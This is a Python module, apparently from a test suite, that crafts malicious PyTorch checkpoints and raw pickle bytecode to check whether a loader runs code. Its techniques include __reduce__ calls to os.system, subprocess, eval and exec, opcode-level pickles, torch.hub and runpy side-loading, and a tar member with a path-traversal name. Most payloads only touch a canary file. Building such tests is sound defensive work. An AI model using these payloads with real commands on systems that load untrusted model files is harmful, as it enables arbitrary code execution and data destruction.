"""Attacks that run code: a pickle that calls a function, imports a module, or is read by a reader that would."""

import builtins
import functools
import importlib
import io
import os
import pickle
import runpy
import subprocess
import tarfile
from collections.abc import Callable
from typing import Any

import torch

from attacks.checkpoints.corpus import attack
from attacks.checkpoints.instructions import text
from attacks.scene import MODULE, Scene


class Call:
    """Is pickled as a call of a function."""

    def __init__(self, function: Callable[..., Any], *args: Any, **kwargs: Any) -> None:
        self.function = functools.partial(function, **kwargs) if kwargs else function
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.args


@attack("test fit load take")
def os_system_as_a_weight(scene: Scene) -> None:
    """Runs os.system where a weight is unpickled."""
    weights = scene.content["state_dict"]
    weights["net.1.bias"] = scene.either(Call(os.system, f"touch {scene.canary}"), weights["net.1.bias"])
    scene.save()


@attack("test take")
def subprocess_in_the_hyper_parameters(scene: Scene) -> None:
    """Starts a process where a setting of the model is unpickled."""
    scene.content["hyper_parameters"]["dropout"] = scene.either(Call(subprocess.Popen, ["touch", str(scene.canary)]), 0)
    scene.save()


@attack("fit")
def eval_in_the_callbacks(scene: Scene) -> None:
    """Evaluates an expression where the state of a callback is unpickled."""
    scene.content["callbacks"]["EpochLines"]["seconds"] = scene.either(
        Call(eval, f"open({str(scene.canary)!r},'w')"), 1
    )
    scene.save()


@attack("fit")
def exec_in_the_loops(scene: Scene) -> None:
    """Executes a statement where the counters are unpickled."""
    scene.content["loops"]["extra"] = Call(exec, f"open({str(scene.canary)!r}, 'w')")
    if not scene.hostile:
        del scene.content["loops"]["extra"]
    scene.save()


@attack("fit")
def open_in_the_optimiser_states(scene: Scene) -> None:
    """Empties a file of the user's where the state of the optimiser is unpickled."""
    group = scene.content["optimizer_states"][0]["param_groups"][0]
    group["lr"] = scene.either(Call(builtins.open, str(scene.thesis), "w"), group["lr"])
    scene.save()


@attack("test take")
def import_of_a_module(scene: Scene) -> None:
    """Imports a module that lies on sys.path."""
    scene.content["planted"] = scene.either(Call(importlib.import_module, MODULE), 1)
    scene.save()


@attack("test take")
def a_class_of_a_module(scene: Scene) -> None:
    """Names a class in such a module, without calling it."""
    scene.plant(f"c{MODULE}\nThing\n".encode())


@attack("test take")
def a_chain_of_getattr(scene: Scene) -> None:
    """Finds os.system through the attributes of something harmless."""
    module = b"cbuiltins\ngetattr\n(ctorch.serialization\nos\n" + text("system") + b"tR"
    scene.plant(module + b"(" + text(f"touch {scene.canary}") + b"tR")


@attack("test take")
def torch_load_of_a_second_file(scene: Scene) -> None:
    """Calls torch.load with weights_only=False on a pickle beside it."""
    second = scene.run.path / "second.pt"
    second.write_bytes(pickle.dumps(Call(os.system, f"touch {scene.canary}")))
    scene.content["planted"] = scene.either(Call(torch.load, str(second), weights_only=False), 1)
    scene.save()


@attack("test take")
def torch_hub(scene: Scene) -> None:
    """Lets torch.hub run a hubconf.py beside it."""
    (scene.run.path / "hubconf.py").write_text(f"open({str(scene.canary)!r}, 'w')\n")
    scene.content["planted"] = scene.either(Call(torch.hub.list, str(scene.run.path), source="local"), 1)
    scene.save()


@attack("test take")
def run_path(scene: Scene) -> None:
    """Lets runpy run a script beside it."""
    script = scene.run.path / "script.py"
    script.write_text(f"open({str(scene.canary)!r}, 'w')\n")
    scene.content["planted"] = scene.either(Call(runpy.run_path, str(script)), 1)
    scene.save()


@attack("test take")
def inst(scene: Scene) -> None:
    """Calls with INST, of protocol 0."""
    scene.plant(b"(" + text(f"touch {scene.canary}") + b"ios\nsystem\n")


@attack("test take")
def obj(scene: Scene) -> None:
    """Calls with OBJ, of protocol 1."""
    scene.plant(b"(cos\nsystem\n" + text(f"touch {scene.canary}") + b"o")


@attack("test take")
def newobj(scene: Scene) -> None:
    """Makes a Popen with NEWOBJ, of protocol 2, and its state with BUILD."""
    scene.plant(b"csubprocess\nPopen\n)\x81}" + text("args") + text(f"touch {scene.canary}") + b"sb")


@attack("test take")
def stack_global(scene: Scene) -> None:
    """Calls what STACK_GLOBAL of protocol 4 names."""
    name = b"\x8c\x02os\x8c\x06system\x93"
    scene.plant(name + text(f"touch {scene.canary}") + b"\x85R")


@attack("test take")
def an_extension_code(scene: Scene) -> None:
    """Takes a function from copyreg's registry of codes."""
    scene.plant(b"\x82\x01(tR")


@attack("test take")
def a_module_as_persistent_id(scene: Scene) -> None:
    """Gives torch the persistent id of a module with its source, which it once took from pickles."""
    scene.plant(b"(" + text("module") + f"c{MODULE}\nThing\n".encode() + text("x.py") + text("x = 1") + b"tQ")


@attack("test take")
def a_tensor_with_a_state(scene: Scene) -> None:
    """Sets attributes of a tensor through a function that torch allows: `numel` becomes something else."""
    weights = scene.content["state_dict"]
    if scene.hostile:
        weights["net.1.bias"].numel = 5
    scene.save()


@attack("test take")
def a_pickle_without_an_archive(scene: Scene) -> None:
    """Is a plain pickle of the newest protocol under the name of a checkpoint."""
    made = pickle.dumps(Call(os.system, f"touch {scene.canary}"), protocol=5)
    scene.write(scene.either(made, scene.honest))


@attack("test take")
def a_pickle_of_protocol_0(scene: Scene) -> None:
    """Is a plain pickle of the oldest protocol."""
    made = pickle.dumps(Call(os.system, f"touch {scene.canary}"), protocol=0)
    scene.write(scene.either(made, scene.honest))


@attack("test take")
def a_legacy_file(scene: Scene) -> None:
    """Is a file of torch before 1.6: several pickles in a row."""
    out = io.BytesIO()
    torch.save(
        {**scene.content, "x": Call(os.system, f"touch {scene.canary}")}, out, _use_new_zipfile_serialization=False
    )
    scene.write(scene.either(out.getvalue(), scene.honest))


@attack("test take")
def a_tar_file(scene: Scene) -> None:
    """Is a tar, as torch's files of 2016 were, with a member that leads out of the folder."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, raw in {
            "../home/canary": b"",
            "pickle": pickle.dumps(Call(os.system, f"touch {scene.canary}")),
        }.items():
            member = tarfile.TarInfo(name)
            member.size = len(raw)
            archive.addfile(member, io.BytesIO(raw))
    scene.write(scene.either(out.getvalue(), scene.honest))
